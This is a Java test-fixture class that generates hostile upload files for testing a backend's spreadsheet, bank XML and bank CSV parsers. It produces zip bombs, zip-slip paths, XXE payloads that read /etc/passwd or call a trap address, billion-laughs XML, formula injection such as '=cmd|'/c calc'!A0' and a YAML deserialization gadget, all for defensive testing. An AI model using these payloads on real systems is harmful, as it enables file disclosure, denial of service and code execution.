package org.skillvoucher.backend.upload;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files that somebody made to harm whoever opens them. Made here by code, so that no such file lies about. */
final class HostileFiles {
    private static final int MEGABYTE = 1024 * 1024;
    /** As much as an upload may have. */
    private static final int LARGEST = 5 * MEGABYTE;

    private static final String SHEET = "xl/worksheets/sheet1.xml";
    private static final String STRINGS = "xl/sharedStrings.xml";
    private static final String HEAD = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";
    private static final String SPREADSHEET = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
    private static final String PAIN = "urn:iso:std:iso:20022:tech:xsd:pain.002.001.10";
    private static final String ONE_CELL = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>x</t></is></c></row>";

    private final String trap;
    private final Map<String, byte[]> sheets = new LinkedHashMap<>();
    private final Map<String, byte[]> pains = new LinkedHashMap<>();
    private final Map<String, byte[]> bankCsvs = new LinkedHashMap<>();

    /** {@code trap} is an address that nobody may ask. */
    HostileFiles(String trap) {
        this.trap = trap;
        zips();
        xml();
        cells();
        texts();
        others();
        bankXml();
        bankCsv();
    }

    /** For those who read lists, by what is wrong with them. */
    Map<String, byte[]> sheets() {
        return sheets;
    }

    /** For those who read pain.002. */
    Map<String, byte[]> pains() {
        return pains;
    }

    /** For those who read the CSV of a bank. */
    Map<String, byte[]> bankCsvs() {
        return bankCsvs;
    }

    private void zips() {
        sheets.put("a sheet that unpacks to 300 MB of blanks", workbook(Map.of(SHEET, zeros(300, (byte) ' '))));
        sheets.put("a picture that unpacks to 300 MB", workbook(Map.of("xl/media/image1.png", zeros(300, (byte) 0))));
        sheets.put(
                "a bomb inside a zip inside a zip",
                workbook(Map.of("xl/a.zip", zip(Map.of("b.zip", zip(Map.of("c", zeros(200, (byte) 0))))))));
        Map<String, byte[]> many = new LinkedHashMap<>();
        for (int i = 0; i < 20_000; i++) {
            many.put("p" + i, new byte[0]);
        }
        sheets.put("twenty thousand parts", zip(many));
        for (String name : List.of(
                "../../../../../../tmp/slipped",
                "/tmp/slipped",
                "..\\..\\slipped",
                "C:\\slipped",
                "xl/../../slipped",
                "\u0000slipped",
                "xl/worksheets/../../../../slipped")) {
            sheets.put("a part named " + name.replace('\0', '0'), workbook(Map.of(name, bytes("slipped"))));
        }
        byte[] right = workbook(Map.of(SHEET, sheet(ONE_CELL)));
        sheets.put("half a zip", Arrays.copyOf(right, right.length / 2));
        sheets.put("a zip without its last byte", Arrays.copyOf(right, right.length - 1));
        sheets.put("two letters of a zip", bytes("PK\u0003\u0004"));
        sheets.put("a zip of nothing", zip(Map.of()));
        sheets.put("a zip that is noise behind its head", noise());
        sheets.put("a zip that claims 65535 parts", patched(right, 0x06054b50, 8, 0xFFFF));
        sheets.put("a part that is said to be encrypted", patched(right, 0x02014b50, 8, 1));
        sheets.put("a part in an unknown compression", patched(right, 0x02014b50, 10, 99));
        sheets.put("a part that is said to be small", patched(bomb(), 0x02014b50, 24, 10));
        sheets.put("a hundred names for one bomb", overlapping());
        sheets.put("a workbook without a sheet", zip(Map.of("[Content_Types].xml", bytes(HEAD + "<Types/>"))));
        sheets.put("a workbook in a workbook", workbook(Map.of(SHEET, right)));
        sheets.put("no workbook but a picture with one behind it", concat(bytes("\u0089PNG\r\n\u001a\n"), right));
    }

    private void xml() {
        for (String part : List.of(SHEET, STRINGS, "xl/workbook.xml", "[Content_Types].xml", "xl/styles.xml")) {
            sheets.put(
                    "an external entity in " + part,
                    workbook(Map.of(
                            part,
                            bytes(HEAD + "<!DOCTYPE a [<!ENTITY x SYSTEM \"" + trap + "/entity\">]><a>&x;</a>"))));
            sheets.put(
                    "an external document type in " + part,
                    workbook(Map.of(part, bytes(HEAD + "<!DOCTYPE a SYSTEM \"" + trap + "/dtd\"><a/>"))));
            sheets.put(
                    "a parameter entity in " + part,
                    workbook(Map.of(
                            part, bytes(HEAD + "<!DOCTYPE a [<!ENTITY % x SYSTEM \"" + trap + "/p\"> %x;]><a/>"))));
            sheets.put("a billion laughs in " + part, workbook(Map.of(part, bytes(HEAD + laughs("a", 10)))));
        }
        sheets.put(
                "a file of the house as an entity",
                workbook(Map.of(
                        SHEET,
                        bytes(HEAD
                                + "<!DOCTYPE worksheet [<!ENTITY x SYSTEM"
                                + " \"file:///etc/passwd\">]><worksheet "
                                + SPREADSHEET
                                + "><sheetData><row r=\"1\"><c r=\"A1\""
                                + " t=\"inlineStr\"><is><t>&x;</t></is></c></row></sheetData></worksheet>"))));
        sheets.put(
                "one large entity told a hundred thousand times",
                workbook(Map.of(
                        SHEET,
                        bytes(HEAD + "<!DOCTYPE a [<!ENTITY x \"" + "x".repeat(100_000) + "\">]><a>"
                                + "&x;".repeat(100_000) + "</a>"))));
        sheets.put(
                "an inclusion",
                workbook(Map.of(
                        SHEET,
                        sheet("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + trap
                                + "/include\"/>"))));
        sheets.put(
                "a style sheet from elsewhere",
                workbook(Map.of(
                        SHEET,
                        bytes(HEAD + "<?xml-stylesheet href=\"" + trap
                                + "/style.xsl\" type=\"text/xsl\"?><worksheet/>"))));
        sheets.put(
                "a schema from elsewhere",
                workbook(Map.of(
                        SHEET,
                        bytes(HEAD
                                + "<worksheet xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
                                + " xsi:noNamespaceSchemaLocation=\""
                                + trap + "/schema.xsd\"/>"))));
        sheets.put(
                "a hundred thousand elements in each other",
                workbook(Map.of(SHEET, sheet("<a>".repeat(100_000) + "</a>".repeat(100_000)))));
        sheets.put(
                "an attribute of 20 MB",
                workbook(Map.of(SHEET, sheet("<row r=\"" + "1".repeat(20 * MEGABYTE) + "\"/>"))));
        sheets.put("a name of 20 MB", workbook(Map.of(SHEET, sheet("<" + "r".repeat(20 * MEGABYTE) + "/>"))));
        sheets.put(
                "a hundred thousand attributes", workbook(Map.of(SHEET, sheet("<row" + attributes(100_000) + "/>"))));
        sheets.put("a comment of 20 MB", workbook(Map.of(SHEET, sheet("<!--" + "x".repeat(20 * MEGABYTE) + "-->"))));
        sheets.put(
                "a reference to no character", workbook(Map.of(SHEET, sheet(cell("inlineStr", "&#0;&#xFFFFFFFF;")))));
        sheets.put(
                "a part in UTF-16 that says it is UTF-8",
                workbook(Map.of(
                        SHEET, new String(sheet(ONE_CELL), StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16))));
        sheets.put(
                "a part in an alphabet that nobody knows",
                workbook(Map.of(SHEET, bytes("<?xml version=\"1.0\" encoding=\"x-none\"?><worksheet/>"))));
        sheets.put(
                "a sheet that lies elsewhere",
                workbook(Map.of(
                        "xl/_rels/workbook.xml.rels",
                        bytes(HEAD
                                + "<Relationships"
                                + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                                + " Id=\"rId1\" TargetMode=\"External\""
                                + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\""
                                + " Target=\"" + trap + "/sheet1.xml\"/></Relationships>"))));
        sheets.put(
                "a sheet outside of the workbook",
                workbook(Map.of(
                        "xl/_rels/workbook.xml.rels",
                        bytes(HEAD
                                + "<Relationships"
                                + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                                + " Id=\"rId1\""
                                + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\""
                                + " Target=\"../../../../etc/passwd\"/></Relationships>"))));
        sheets.put(
                "a link to another workbook",
                workbook(Map.of(
                        "xl/externalLinks/_rels/externalLink1.xml.rels",
                        bytes(HEAD
                                + "<Relationships"
                                + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                                + " Id=\"rId1\" TargetMode=\"External\""
                                + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath\""
                                + " Target=\"" + trap + "/other.xlsx\"/></Relationships>"))));
    }

    private void cells() {
        sheets.put(
                "a million columns",
                workbook(Map.of(SHEET, sheet("<row r=\"1\">" + "<c/>".repeat(1_000_000) + "</row>"))));
        for (String place :
                List.of("XFD1", "ZZZZZZZ1", "AAAAAAAAAAAAAAAAAAAA1", "A99999999999", "A-1", "1", "", "Ａ1")) {
            sheets.put(
                    "a cell at " + place,
                    workbook(Map.of(
                            SHEET,
                            sheet("<row r=\"1\"><c r=\"" + place + "\" t=\"inlineStr\"><is><t>x</t></is></c></row>"))));
        }
        sheets.put("a million rows", workbook(Map.of(SHEET, sheet("<row/>".repeat(1_000_000)))));
        sheets.put(
                "a sheet that says it has a billion cells",
                workbook(Map.of(
                        SHEET,
                        bytes(HEAD + "<worksheet " + SPREADSHEET + "><dimension ref=\"A1:XFD1048576\"/><sheetData>"
                                + ONE_CELL + "</sheetData></worksheet>"))));
        for (String row : List.of("0", "-1", "2147483647", "2147483648", "x", "")) {
            sheets.put(
                    "row " + row,
                    workbook(Map.of(SHEET, sheet("<row r=\"" + row + "\"><c t=\"str\"><v>x</v></c></row>"))));
        }
        for (String index : List.of("1", "999999999", "-1", "x", "99999999999999", "")) {
            sheets.put(
                    "shared text " + index + " of one",
                    workbook(Map.of(SHEET, sheet(cell("s", index)), STRINGS, strings("<si><t>x</t></si>"))));
        }
        sheets.put(
                "shared texts that are said to be two billion",
                workbook(Map.of(
                        SHEET,
                        sheet(cell("s", "0")),
                        STRINGS,
                        bytes(HEAD + "<sst " + SPREADSHEET
                                + " count=\"2147483647\" uniqueCount=\"2147483647\"><si><t>x</t></si></sst>"))));
        sheets.put(
                "six million empty shared texts",
                workbook(Map.of(SHEET, sheet(cell("s", "0")), STRINGS, strings("<si/>".repeat(6_000_000)))));
        String wide = "<row>" + "<c t=\"s\"><v>0</v></c>".repeat(64) + "</row>";
        sheets.put(
                "one long shared text in every cell",
                workbook(Map.of(
                        SHEET,
                        sheet(wide.repeat(2_000)),
                        STRINGS,
                        strings("<si><t xml:space=\"preserve\"> " + "x".repeat(30_000) + "</t></si>"))));
        sheets.put("a cell of 20 MB", workbook(Map.of(SHEET, sheet(cell("inlineStr", "x".repeat(20 * MEGABYTE))))));
        sheets.put(
                "a text of 20 MB in small pieces",
                workbook(Map.of(
                        SHEET,
                        sheet("<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is>"
                                + "<r><t>xxxxxxxxxxxxxxxx</t></r>".repeat(MEGABYTE) + "</is></c></row>"))));
        sheets.put("a number of a million digits", workbook(Map.of(SHEET, sheet(cell("n", "9".repeat(1_000_000))))));
        sheets.put("a number with a giant exponent", workbook(Map.of(SHEET, sheet(cell("n", "1E2147483647")))));
        sheets.put("a number that is none", workbook(Map.of(SHEET, sheet(cell("n", "NaN")))));
        sheets.put("a truth that is none", workbook(Map.of(SHEET, sheet(cell("b", "perhaps")))));
        sheets.put("a day that is none", workbook(Map.of(SHEET, sheet(cell("d", "9999-99-99T99:99:99")))));
        sheets.put("a cell of an unknown kind", workbook(Map.of(SHEET, sheet(cell("zzz", "x")))));
        for (String formula : List.of(
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(1)",
                "\t=1+1",
                "\r=1+1",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(1)",
                "=cmd|'/c calc'!A0",
                "=HYPERLINK(\"" + trap + "/h\")",
                "=WEBSERVICE(\"" + trap + "/w\")",
                "=IMPORTXML(\"" + trap + "/x\",\"//a\")",
                "=[1]Sheet1!A1",
                "=DDE(\"a\";\"b\";\"c\")")) {
            String text = formula.replace("&", "&amp;")
                    .replace("<", "&lt;")
                    .replace("\r", "&#13;")
                    .replace("\"", "&quot;");
            sheets.put("a cell with the words " + formula, workbook(Map.of(SHEET, sheet(cell("inlineStr", text)))));
            sheets.put(
                    "a formula " + formula,
                    workbook(Map.of(SHEET, sheet("<row r=\"1\"><c r=\"A1\"><f>" + text.strip() + "</f></c></row>"))));
            sheets.put(
                    "CSV that begins with " + formula, bytes("\"" + formula.replace("\"", "\"\"") + "\",name\nx,y\n"));
        }
        sheets.put(
                "a shared formula of nobody",
                workbook(Map.of(SHEET, sheet("<row r=\"1\"><c r=\"A1\"><f t=\"shared\" si=\"99999\"/></c></row>"))));
        sheets.put(
                "a formula for a million cells",
                workbook(Map.of(
                        SHEET,
                        sheet("<row r=\"1\"><c r=\"A1\"><f t=\"array\" ref=\"A1:XFD1048576\">A1</f></c></row>"))));
    }

    private void texts() {
        sheets.put("nothing", new byte[0]);
        sheets.put("a mark of order and nothing", new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
        sheets.put("empty lines", bytes("\n".repeat(LARGEST)));
        sheets.put("comments", bytes("# x\n".repeat(LARGEST / 4)));
        sheets.put("zeros", new byte[LARGEST]);
        sheets.put("zeros between letters", bytes("code\0,name\0\nx\0,y\0\n"));
        sheets.put("a quote that is never closed", bytes("code,name\n\"" + "x".repeat(LARGEST - 11)));
        sheets.put("a quote that is never closed, of 8 MB", bytes("\"" + "x".repeat(8 * MEGABYTE)));
        sheets.put("quotes alone", bytes("\"".repeat(LARGEST)));
        sheets.put("five million columns", bytes(",".repeat(LARGEST)));
        sheets.put("a million columns with names", bytes("a,".repeat(1_000_000)));
        sheets.put("two million rows", bytes("a\n".repeat(2_000_000)));
        sheets.put("one line without a comma", bytes("x".repeat(LARGEST)));
        sheets.put("ends of lines of every kind", bytes("a\rb\nc\r\nd\u2028e\u0085f\u000b\u000c"));
        for (String charset : List.of("UTF-16LE", "UTF-16BE", "UTF-32LE", "UTF-32BE")) {
            sheets.put("a list in " + charset, "\uFEFFcode,name\nx,示例\n".getBytes(Charset.forName(charset)));
        }
        sheets.put(
                "overlong UTF-8",
                new byte[] {(byte) 0xC0, (byte) 0xAF, (byte) 0xE0, (byte) 0x80, (byte) 0xAF, (byte) 0xFF});
        sheets.put(
                "half a pair of surrogates", new byte[] {'a', (byte) 0xED, (byte) 0xA0, (byte) 0x80, ',', (byte) 0xFF});
        sheets.put("half a Chinese character", new byte[] {'a', ',', (byte) 0xC4});
        sheets.put("letters that turn the line round", bytes("\u202Ecode\u202C,\u200Fname\u200B\nx,y\n"));
        sheets.put("heads twice", bytes("name,name,code,code\n1,2,3,4\n"));
        sheets.put("a script", bytes("<script>location='" + trap + "/script'</script>"));
        sheets.put(
                "a table of HTML that says it is a sheet", bytes("<html><table><tr><td>=1+1</td></tr></table></html>"));
    }

    private void others() {
        sheets.put("an old workbook", concat(hex("D0CF11E0A1B11AE1"), new byte[4096]));
        sheets.put("a program", concat(bytes("MZ"), new byte[4096]));
        sheets.put(
                "a document", bytes("%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(" + trap + "/pdf)>>>>endobj\n%%EOF"));
        sheets.put("a bomb in gzip", gzip(zeros(200, (byte) 0)));
        sheets.put("an archive of another kind", concat(hex("377ABCAF271C0004"), new byte[64]));
        sheets.put("a Java object", hex("ACED0005737200116A6176612E7574696C2E486173684D6170"));
        sheets.put(
                "YAML that makes an object",
                bytes("!!javax.script.ScriptEngineManager [!!java.net.URL [\"" + trap + "/y\"]]"));
    }

    private void bankXml() {
        String right = pain("<OrgnlMsgId>m</OrgnlMsgId>", "");
        for (Map.Entry<String, String> type : Map.of(
                        "an external entity", "<!DOCTYPE Document [<!ENTITY x SYSTEM \"" + trap + "/b\">]>",
                        "a file of the house", "<!DOCTYPE Document [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
                        "an external document type", "<!DOCTYPE Document SYSTEM \"" + trap + "/dtd\">",
                        "a parameter entity", "<!DOCTYPE Document [<!ENTITY % x SYSTEM \"" + trap + "/p\"> %x;]>",
                        "an empty document type", "<!DOCTYPE Document>")
                .entrySet()) {
            pains.put(type.getKey(), bytes(HEAD + type.getValue() + pain("<OrgnlMsgId>&x;</OrgnlMsgId>", "")));
        }
        pains.put("a billion laughs", bytes(HEAD + laughs("Document", 10)));
        pains.put(
                "one large entity told often",
                bytes(HEAD + "<!DOCTYPE a [<!ENTITY x \"" + "x".repeat(50_000) + "\">]><a>" + "&x;".repeat(50_000)
                        + "</a>"));
        pains.put(
                "elements in each other", bytes(HEAD + "<a xmlns=\"" + PAIN + "\">".repeat(1) + "<a>".repeat(500_000)));
        pains.put("half of it", bytes((HEAD + right).substring(0, right.length() / 2)));
        pains.put("twice of it", bytes(HEAD + right + right));
        pains.put("another name space", bytes(HEAD + right.replace(PAIN, "urn:x")));
        pains.put("UTF-16", (HEAD + right).getBytes(StandardCharsets.UTF_16));
        pains.put("an instruction", bytes(HEAD + "<?xml-stylesheet href=\"" + trap + "/s\"?>" + right));
        pains.put("zeros", new byte[LARGEST]);
        pains.put("nothing", new byte[0]);
        pains.put("more than may be", bytes(" ".repeat(LARGEST + 1)));
        pains.put(
                "a text of 5 MB",
                bytes(HEAD + pain("<OrgnlMsgId>" + "x".repeat(LARGEST - 2000) + "</OrgnlMsgId>", "")));
        pains.put("a name of 4 MB", bytes(HEAD + pain("<" + "x".repeat(4 * MEGABYTE) + "/>", "")));
        pains.put("a hundred thousand attributes", bytes(HEAD + pain("<a" + attributes(100_000) + "/>", "")));
        pains.put(
                "a reason in two hundred thousand pieces",
                bytes(HEAD
                        + pain(
                                "<OrgnlMsgId>m</OrgnlMsgId>",
                                "<OrgnlPmtInfAndSts><TxInfAndSts><StsRsnInf>" + "<AddtlInf>x</AddtlInf>".repeat(200_000)
                                        + "</StsRsnInf></TxInfAndSts></OrgnlPmtInfAndSts>")));
        pains.put(
                "sums beyond every number",
                bytes(HEAD
                        + pain(
                                "<OrgnlMsgId>m</OrgnlMsgId>"
                                        + ("<NbOfTxsPerSts><DtldNbOfTxs>999999999</DtldNbOfTxs><DtldSts>ACSC</DtldSts>"
                                                        + "<DtldCtrlSum>90000000000000.00</DtldCtrlSum></NbOfTxsPerSts>")
                                                .replace("90000000000000", "9000000000000")
                                                .repeat(12_000),
                                "")));
        pains.put("an amount that is none", bytes(HEAD + pain("<OrgnlMsgId>m</OrgnlMsgId>", statement("NaN"))));
        pains.put("an amount with an exponent", bytes(HEAD + pain("<OrgnlMsgId>m</OrgnlMsgId>", statement("1E9"))));
        pains.put("an amount below nothing", bytes(HEAD + pain("<OrgnlMsgId>m</OrgnlMsgId>", statement("-1.00"))));
        pains.put("no XML", bytes("{\"x\":1}"));
    }

    private void bankCsv() {
        bankCsvs.put("nothing", new byte[0]);
        bankCsvs.put("zeros", new byte[LARGEST]);
        bankCsvs.put("a quote that is never closed", bytes("H,\"" + "x".repeat(LARGEST - 10)));
        bankCsvs.put("more than may be", bytes("x".repeat(LARGEST + 1)));
        bankCsvs.put("five million columns", bytes("H" + ",".repeat(LARGEST - 1)));
        bankCsvs.put("a million rows", bytes("H,m\n" + "R,e,PAID,1.00,,\n".repeat(300_000)));
        bankCsvs.put(
                "sums beyond every number",
                bytes("H,m\n" + "R,e,PAID,9000000000000.00,,\n".repeat(15_000) + "T,15000,1.00\n"));
        bankCsvs.put("an amount with an exponent", bytes("H,m\nR,e,PAID,1E9,,\nT,1,1E9\n"));
        bankCsvs.put("wide digits", bytes("H,m\nR,e,PAID,１.００,,\nT,1,１.００\n"));
        bankCsvs.put("a head twice", bytes("H,m\nH,m\nT,0,0.00\n"));
        bankCsvs.put("something after the end", bytes("H,m\nT,0,0.00\nR,e,PAID,1.00,,\n"));
        bankCsvs.put("no end", bytes("H,m\n"));
        bankCsvs.put("overlong UTF-8", new byte[] {'H', ',', (byte) 0xC0, (byte) 0xAF});
        bankCsvs.put("UTF-16", "\uFEFFH,m\nT,0,0.00\n".getBytes(StandardCharsets.UTF_16));
        bankCsvs.put("a mark of order", bytes("\uFEFFH,m\nT,0,0.00\n"));
        bankCsvs.put("a workbook", workbook(Map.of(SHEET, sheet(ONE_CELL))));
    }

    // How they are made

    private static String statement(String amount) {
        return "<OrgnlPmtInfAndSts><TxInfAndSts><OrgnlEndToEndId>e</OrgnlEndToEndId><TxSts>ACSC</TxSts><OrgnlTxRef><Amt><InstdAmt"
                + " Ccy=\"CNY\">" + amount
                + "</InstdAmt></Amt></OrgnlTxRef></TxInfAndSts></OrgnlPmtInfAndSts>";
    }

    private static String pain(String group, String more) {
        return "<Document xmlns=\"" + PAIN + "\"><CstmrPmtStsRpt><OrgnlGrpInfAndSts>" + group + "</OrgnlGrpInfAndSts>"
                + more + "</CstmrPmtStsRpt></Document>";
    }

    private static String laughs(String root, int deep) {
        StringBuilder text = new StringBuilder("<!DOCTYPE " + root + " [<!ENTITY l0 \"ha\">");
        for (int i = 1; i < deep; i++) {
            text.append("<!ENTITY l")
                    .append(i)
                    .append(" \"")
                    .append(("&l" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        return text + "]><" + root + ">&l" + (deep - 1) + ";</" + root + ">";
    }

    private static String attributes(int count) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < count; i++) {
            text.append(" a").append(i).append("=\"\"");
        }
        return text.toString();
    }

    private static String cell(String type, String value) {
        return "<row r=\"1\"><c r=\"A1\" t=\"" + type + "\">"
                + (type.equals("inlineStr") ? "<is><t>" + value + "</t></is>" : "<v>" + value + "</v>") + "</c></row>";
    }

    private static byte[] sheet(String rows) {
        return bytes(HEAD + "<worksheet " + SPREADSHEET + "><sheetData>" + rows + "</sheetData></worksheet>");
    }

    private static byte[] strings(String texts) {
        return bytes(HEAD + "<sst " + SPREADSHEET + ">" + texts + "</sst>");
    }

    /** A workbook of one sheet, with these parts beside its own or in place of them. */
    private static byte[] workbook(Map<String, byte[]> parts) {
        Map<String, byte[]> all = new LinkedHashMap<>();
        all.put(
                "[Content_Types].xml",
                bytes(HEAD
                        + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default"
                        + " Extension=\"rels\""
                        + " ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default"
                        + " Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/xl/workbook.xml\""
                        + " ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/><Override"
                        + " PartName=\"/xl/sharedStrings.xml\""
                        + " ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml\"/><Override"
                        + " PartName=\"/xl/styles.xml\""
                        + " ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml\"/><Override"
                        + " PartName=\"/xl/worksheets/sheet1.xml\""
                        + " ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
                        + "</Types>"));
        all.put(
                "xl/workbook.xml",
                bytes(HEAD + "<workbook " + SPREADSHEET
                        + " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
                        + "<sheets><sheet name=\"a\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"));
        all.put(
                "xl/_rels/workbook.xml.rels",
                bytes(HEAD
                        + "<Relationships"
                        + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                        + " Id=\"rId1\""
                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\""
                        + " Target=\"worksheets/sheet1.xml\"/></Relationships>"));
        all.put(SHEET, sheet(ONE_CELL));
        all.putAll(parts);
        return zip(all);
    }

    private static byte[] bomb() {
        return workbook(Map.of(SHEET, zeros(300, (byte) ' ')));
    }

    private static byte[] zip(Map<String, byte[]> parts) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.setLevel(Deflater.BEST_SPEED); // a bomb is no less one, and sooner packed
            for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
                zip.closeEntry();
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return bytes.toByteArray();
    }

    /** One part of 50 MB, and a directory that names it a hundred times. */
    private static byte[] overlapping() {
        byte[] one = zip(Map.of("x", zeros(50, (byte) 0)));
        ByteBuffer bytes = ByteBuffer.wrap(one).order(ByteOrder.LITTLE_ENDIAN);
        int directory = find(one, 0x02014b50);
        int end = find(one, 0x06054b50);
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        all.write(one, 0, directory);
        int names = 100;
        for (int i = 0; i < names; i++) {
            all.write(one, directory, end - directory);
        }
        ByteBuffer last = ByteBuffer.allocate(one.length - end).order(ByteOrder.LITTLE_ENDIAN);
        last.put(one, end, one.length - end);
        last.putShort(8, (short) names).putShort(10, (short) names).putInt(12, (end - directory) * names);
        last.putInt(16, bytes.getInt(end + 16));
        all.writeBytes(last.array());
        return all.toByteArray();
    }

    /** With other two bytes so far behind each such signature. */
    private static byte[] patched(byte[] zip, int signature, int offset, int value) {
        byte[] other = zip.clone();
        ByteBuffer bytes = ByteBuffer.wrap(other).order(ByteOrder.LITTLE_ENDIAN);
        for (int i = 0; i + offset + 2 <= other.length - 2; i++) {
            if (bytes.getInt(i) == signature) {
                bytes.putShort(i + offset, (short) value);
            }
        }
        return other;
    }

    private static int find(byte[] zip, int signature) {
        ByteBuffer bytes = ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN);
        for (int i = 0; i + 4 <= zip.length; i++) {
            if (bytes.getInt(i) == signature) {
                return i;
            }
        }
        throw new IllegalStateException("no such part of a zip");
    }

    private static byte[] noise() {
        CRC32 crc = new CRC32();
        ByteBuffer noise = ByteBuffer.allocate(64 * 1024);
        noise.put(bytes("PK\u0003\u0004"));
        while (noise.remaining() >= 4) {
            crc.update(noise.remaining());
            noise.putInt((int) crc.getValue());
        }
        return noise.array();
    }

    private static byte[] gzip(byte[] plain) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
            gzip.write(plain);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return bytes.toByteArray();
    }

    private static byte[] zeros(int megabytes, byte of) {
        byte[] bytes = new byte[megabytes * MEGABYTE];
        Arrays.fill(bytes, of);
        return bytes;
    }

    private static byte[] concat(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static byte[] hex(String digits) {
        return java.util.HexFormat.of().parseHex(digits);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
